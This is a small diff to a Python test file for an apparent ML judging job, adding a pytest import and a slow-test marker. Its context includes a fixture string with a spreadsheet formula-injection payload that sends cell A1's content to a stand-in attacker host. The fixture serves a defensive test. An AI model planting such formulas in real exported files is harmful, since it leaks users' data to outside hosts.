@@ -7,11 +7,13 @@ import json
 
 import numpy as np
 import pandas as pd
+import pytest
 from llm_stub import Reply
 
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
 
+@pytest.mark.slow
 def test_judge_explanations_and_name_are_data(stub_server, make_cfg, mlflow_store, tmp_path):
     from pulse_ml.jobs.judge import JudgeSettings, judge
 
